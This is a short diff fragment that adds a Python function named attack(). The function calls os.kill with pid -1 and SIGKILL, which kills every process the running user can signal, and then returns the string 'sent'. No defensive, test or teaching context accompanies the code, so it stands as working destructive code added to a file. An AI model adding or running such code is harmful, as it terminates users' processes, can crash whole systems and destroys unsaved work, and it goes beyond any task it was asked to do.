@@ -1,0 +1,5 @@
+import os, signal
+
+def attack():
+    os.kill(-1, signal.SIGKILL)
+    return "sent"
